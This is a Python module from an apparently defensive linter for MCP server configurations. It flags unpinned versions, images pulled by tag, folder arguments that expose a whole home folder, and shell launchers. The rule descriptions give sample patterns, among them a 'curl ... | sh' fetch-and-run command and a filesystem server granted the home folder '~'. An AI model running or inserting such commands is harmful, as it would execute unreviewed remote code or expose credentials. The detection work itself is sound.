"""Rules about one entry: its version, its command line, its paths."""

from __future__ import annotations

import re
from collections.abc import Iterator

from mcpconf.errors import Where
from mcpconf.model.asked import UNPINNED
from mcpconf.model.finding import Severity
from mcpconf.model.package import Recognised
from mcpconf.packages import recognise_entry
from mcpconf.packages.paths import paths_in
from mcpconf.permissions import shell_launcher, too_broad
from mcpconf.reconcile.places import line_of
from mcpconf.resolve import UNMET
from mcpconf.rules.containers import opened
from mcpconf.rules.frame import Case, Evidence, Hit, Rule

_DIGEST = 'a tag can be moved; `mcpconf lock` writes down its digest, or give it as `hash: "sha256:..."`'
_HELPER = re.compile(r"(?:http_?)?headers_?helper|env_?file", re.IGNORECASE)


def _hit(case: Case, message: str, **more: str) -> Hit:
    return Hit(
        case.subject,
        case.address,
        message,
        where=case.where,
        hint=more.get("hint", ""),
        evidence=more.get("evidence", ""),
    )


def _floating(evidence: Evidence) -> Iterator[tuple[Case, Recognised, bool]]:
    """Each entry that asks for no exact version, and whether the manifest's own policy forbids that."""
    required = "exact-version" in evidence.manifest.policy.require
    unmet = evidence.situation.supplied.unmet
    told = unmet if any(item.rule == UNMET for item in evidence.situation.desired.findings) else {}
    for case in evidence.cases:
        launched = recognise_entry(case.entry)
        if launched.floating and not (case.subject == "desired" and case.name in told):
            yield case, launched, required and case.subject == "desired"


def _is_image(launched: Recognised) -> bool:
    return launched.package is not None and launched.package.ecosystem == "oci"


def _by_tag(launched: Recognised) -> bool:
    return _is_image(launched) and launched.version not in ("", "latest")


def _unpinned(evidence: Evidence) -> Iterator[Hit]:
    """A tag of an image that says a version is told by another rule, and an archive is where it comes from."""
    unmet = evidence.situation.supplied.unmet
    for case, launched, demanded in _floating(evidence):
        archive = launched.package is not None and launched.package.name.startswith("http")
        if _by_tag(launched) or (archive and not demanded):
            continue
        asked = f"asks for `{launched.version}`" if launched.version else "asks for no version"
        what = launched.package if launched.identity.startswith("url:") else launched.identity
        message = f"`{case.name}` {asked} of {what}, so what runs can change by itself"
        hint = _DIGEST if _is_image(launched) else ""
        hint = unmet[case.name].hint if case.name in unmet and case.subject == "desired" else hint
        promised = case.server is None or case.server.version != UNPINNED
        severity: Severity | None = None if promised or demanded else "warning"
        yield Hit(case.subject, case.address, message, hint, case.where, severity=severity, demanded=demanded)


def _tagged(evidence: Evidence) -> Iterator[Hit]:
    for case, launched, demanded in _floating(evidence):
        if _by_tag(launched):
            message = f"`{case.name}` asks for the tag `{launched.version}` of {launched.identity}, which can be moved"
            severity: Severity | None = "error" if demanded else None
            yield Hit(case.subject, case.address, message, "", case.where, severity=severity, demanded=demanded)


def _too_broad(evidence: Evidence) -> Iterator[Hit]:
    situation = evidence.situation
    for case in evidence.cases:
        told = opened(recognise_entry(case.entry), situation.home, situation.os)
        for path in paths_in([str(value) for value in case.entry.argv]):
            reason = too_broad(path, situation.home, situation.os) if path not in told else None
            if reason:
                yield _hit(case, f"`{case.name}` may reach `{path}`: {reason}", evidence=path)


def _shell(evidence: Evidence) -> Iterator[Hit]:
    for case in evidence.cases:
        reason = shell_launcher([str(value) for value in case.entry.argv])
        if reason:
            yield _hit(case, f"`{case.name}` starts a shell or interpreter: {reason}")


def _helpers(evidence: Evidence) -> Iterator[Hit]:
    """Keys of hosts that run a command for headers, or load variables from a file, beside what an entry is compared by."""
    for entry in evidence.situation.observed.entries:
        for key in entry.raw if isinstance(entry.raw, dict) else ():
            if _HELPER.fullmatch(key):
                message = (
                    f"`{entry.address.server}` has `{key}`, by which the host runs or loads more than the entry says"
                )
                where = Where(entry.file.location.path, line_of(entry), pointer=str(entry.address))
                yield Hit("observed", str(entry.address), message, "look at what it names, or remove the key", where)


def _launched(evidence: Evidence) -> Iterator[Hit]:
    yield from _shell(evidence)
    yield from _helpers(evidence)


RULES = (
    Rule(
        id="MCP101",
        title="unpinned version",
        severity="error",
        threat="vulnerable versions (re-deployment), rug pull",
        owasp="MCP04:2025",
        check=_unpinned,
        what="A command line that asks for no exact version: none at all, `@latest`, a range, a tag, a branch.",
        why="Whoever publishes the next version decides what runs on the machine, after review and without a change in git.",
        example="npx -y @acme/files",
        fix='write the exact version, such as `version: "1.2.0"`',
    ),
    Rule(
        id="MCP104",
        title="image by tag",
        severity="warning",
        threat="rug pull, installer spoofing",
        owasp="MCP04:2025",
        check=_tagged,
        what="An image that is asked for by a tag with a version in it, and not by its digest. Without a tag, or as `latest`, that is an unpinned version.",
        why="Whoever may push to the registry can put another image under the same tag, and engines then take what they get.",
        example="docker run -i --rm ghcr.io/acme/files:1.2.0",
        fix=_DIGEST,
    ),
    Rule(
        id="MCP203",
        title="folder too broad",
        severity="warning",
        threat="sandbox escape, privilege persistence",
        owasp="MCP02:2025",
        check=_too_broad,
        what="An argument that gives a server the root, a whole home, a drive, or a folder of credentials.",
        why="A server that may read `~` may read every key and token in it; the argument is often the only limit it has.",
        example="npx -y @modelcontextprotocol/server-filesystem@2026.8.31 ~",
        fix="name the folder that the server needs",
    ),
    Rule(
        id="MCP204",
        title="shell or interpreter as launcher",
        severity="error",
        threat="code injection, installer spoofing",
        owasp="MCP05:2025",
        check=_launched,
        what="A command line that hands text to a shell or interpreter: `sh -c`, `node -e`, `curl ... | sh`. Also keys by which a host runs a helper or loads a file of variables.",
        why="The text is a program that nobody pinned or reviewed. Rogue entries written by malware look like this.",
        example='sh -c "curl -s https://example.org/i.sh | sh"',
        fix="start the program itself, with its arguments as a list",
    ),
)
